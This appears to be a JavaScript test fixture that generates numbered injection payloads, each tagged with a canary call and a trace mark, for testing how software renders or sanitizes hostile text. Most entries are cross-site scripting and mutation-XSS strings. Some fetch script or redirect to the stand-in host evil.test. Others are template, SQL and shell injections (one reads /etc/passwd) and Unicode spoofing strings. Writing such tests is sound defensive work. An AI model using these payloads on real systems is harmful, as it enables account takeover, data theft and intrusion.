// Texts that want to be more than text. Each is made for a case number, which it carries, so that what is
// shown, or run, can be told from all others. What runs calls `canary(n)`; what is fetched is at evil.test.

const LRO = "\u202d", RLO = "\u202e", PDF = "\u202c", RLI = "\u2067", PDI = "\u2069", RLM = "\u200f";
const ZERO_WIDTH = "\u200b", JOINER = "\u200d", BOM = "\ufeff", SHY = "\u00ad", TAGGED = "\u{e0041}";

/** Where a payload's case number stands; no payload has another like it. */
export const MARK = /k(\d+)k/g;

const SHAPES = [
  // Scripts, whole, broken and disguised.
  (n) => `<script>canary(${n})</script>`,
  (n) => `</script><script>canary(${n})</script>`,
  (n) => `<ScRiPt/x>canary(${n})</sCrIpT >`,
  (n) => `<<script>canary(${n});//<</script>`,
  (n) => `<script src=//evil.test/${n}.js></script>`,
  (n) => `<script type=module>import("https://evil.test/${n}.js")</script>`,
  (n) => `<scr<script>ipt>canary(${n})</scr</script>ipt>`,
  // Handlers.
  (n) => `<img src=x onerror=canary(${n})>`,
  (n) => `<img/src="x"/onerror="canary(${n})"`,
  (n) => `<body onload=canary(${n})>`,
  (n) => `<input autofocus onfocus=canary(${n})>`,
  (n) => `<details open ontoggle=canary(${n})>`,
  (n) => `<video><source onerror=canary(${n})></video>`,
  (n) => `<marquee onstart=canary(${n})>`,
  (n) => `<a onpointerover=canary(${n})>over</a>`,
  (n) => `<x tabindex=1 onanimationend=canary(${n}) style="animation:x 1ms">`,
  (n) => `" autofocus onfocus="canary(${n})" x="`,
  (n) => `' onmouseover='canary(${n})' x='`,
  (n) => "` onerror=`canary(" + n + ")`",
  (n) => `x" onerror=canary(${n})//`,
  // SVG and MathML.
  (n) => `<svg onload=canary(${n})>`,
  (n) => `<svg><script>canary(${n})</script></svg>`,
  (n) => `<svg><animate onbegin=canary(${n}) attributeName=x dur=1s>`,
  (n) => `<svg><a xlink:href="javascript:canary(${n})"><text y=20>go</text></a></svg>`,
  (n) => `<svg><use href="data:image/svg+xml,<svg id=x onload=canary(${n})>#x">`,
  (n) => `<svg><foreignObject><iframe srcdoc="<script>parent.canary(${n})</script>"></foreignObject></svg>`,
  (n) => `<math href="javascript:canary(${n})">go</math>`,
  // Addresses.
  (n) => `javascript:canary(${n})`,
  (n) => `JaVaScRiPt:canary(${n})`,
  (n) => `java\tscript:canary(${n})`,
  (n) => `\u0001javascript:canary(${n})`,
  (n) => `javascript://evil.test/%0acanary(${n})`,
  (n) => `data:text/html,<script>canary(${n})</script>`,
  (n) => `data:text/html;base64,PHNjcmlwdD5jYW5hcnkoKTwvc2NyaXB0Pg==#${n}`,
  (n) => `vbscript:canary(${n})`,
  (n) => `//evil.test/${n}`,
  (n) => `https://evil.test/${n}`,
  (n) => `<a href="javascript:canary(${n})">go</a>`,
  (n) => `../../../evil/${n}?x=#y`,
  // What fetches or leads away.
  (n) => `<iframe src="javascript:parent.canary(${n})">`,
  (n) => `<iframe srcdoc="<img src=x onerror=parent.canary(${n})>">`,
  (n) => `<object data="data:text/html,<script>canary(${n})</script>">`,
  (n) => `<embed src="//evil.test/${n}.swf">`,
  (n) => `<link rel=stylesheet href=//evil.test/${n}.css>`,
  (n) => `<meta http-equiv=refresh content="0;url=//evil.test/${n}">`,
  (n) => `<base href="//evil.test/${n}/">`,
  (n) => `<form action="//evil.test/${n}"><button>go</button></form>`,
  (n) => `<button form=launch formaction="javascript:canary(${n})">go</button>`,
  // Styles.
  (n) => `<style>@import "//evil.test/${n}.css";</style>`,
  (n) => `<p style="background:url(//evil.test/${n})">p</p>`,
  (n) => `color:red;background:url(//evil.test/${n})`,
  (n) => `</style><img src=x onerror=canary(${n})>`,
  // Templates of other makers, and of the page's own words.
  (n) => `{{constructor.constructor('canary(${n})')()}}`,
  (n) => `\${canary(${n})}`,
  (n) => `<%= canary(${n}) %>`,
  (n) => `#{canary(${n})} {0} {name} {count} %s %(project_id)s`,
  (n) => `__proto__ constructor toString ${n}`,
  (n) => `\\u003cscript\\u003ecanary(${n})\\u003c/script\\u003e`,
  // Mutation: harmless when parsed once.
  (n) => `<svg></p><style><a id="</style><img src=1 onerror=canary(${n})>">`,
  (n) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=canary(${n})&gt;">`,
  (n) => `<noscript><p title="</noscript><img src=x onerror=canary(${n})>">`,
  (n) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=canary(${n})>`,
  (n) => `<template><img src=x onerror=canary(${n})></template>`,
  (n) => `<textarea></textarea><img src=x onerror=canary(${n})>`,
  (n) => `<title></title><img src=x onerror=canary(${n})>`,
  (n) => `<select><option></select><img src=x onerror=canary(${n})>`,
  (n) => `<xmp><p title="</xmp><svg/onload=canary(${n})>"></xmp>`,
  (n) => `&lt;img src=x onerror=canary(${n})&gt;`,
  (n) => `&#60;img src=x onerror=canary(${n})&#62; &amp;lt; &#x0;`,
  (n) => `<![CDATA[<img src=x onerror=canary(${n})>]]>`,
  (n) => `<!--><img src=x onerror=canary(${n})>-->`,
  (n) => `<img src=x onerror=canary(${n}) <b`,
  (n) => `\u0000<\u0000img src=x onerror=canary(${n})>`,
  (n) => `+ADw-script+AD4-canary(${n})+ADw-/script+AD4-`,
  (n) => `\uff1cscript\uff1ecanary(${n})\uff1c/script\uff1e`,
  // What is seen, and what is there.
  (n) => `${RLO}gpj.exe ${n}`,
  (n) => `${RLO}${n}${PDF} ${LRO}abc${PDF}`,
  (n) => `${RLI}\u05d0\u05d1\u05d2 ${n}${PDI} ${RLM}`,
  (n) => `ad${ZERO_WIDTH}min${JOINER}${BOM}${SHY} ${n}`,
  (n) => `a\u0007\u001b[31mred\u001b[0m\u007f\u0085 ${n}`,
  (n) => `${TAGGED}hidden\u2028line\u2029${n}`,
  (n) => `\u0627\u0644\u062e\u0627\u062f\u0645 ${n}`,
  (n) => `Z\u0351\u0351\u0351\u0351\u0351\u0351\u0351\u0351a\u0351\u0351\u0351\u0351\u0351lgo ${n}`,
  (n) => `\u{1f469}\u200d\u{1f4bb}\u{1f1e6} ${n}`,
  (n) => `  two  spaces\tand\na line ${n}  `,
  (n) => `${"W".repeat(240)}${n}`,
  (n) => `'; DROP TABLE servers; -- ${n}`,
  (n) => `$(touch /tmp/${n}) \`id\` | cat /etc/passwd`,
  (n) => `=HYPERLINK("//evil.test/${n}")`,
];

/** How many shapes there are. */
export const COUNT = SHAPES.length;

/** The shape for a case, with its mark: `//` keeps what would run alive. */
export const payload = (shape, n) => `${SHAPES[shape % COUNT](n)}//k${n}k`;
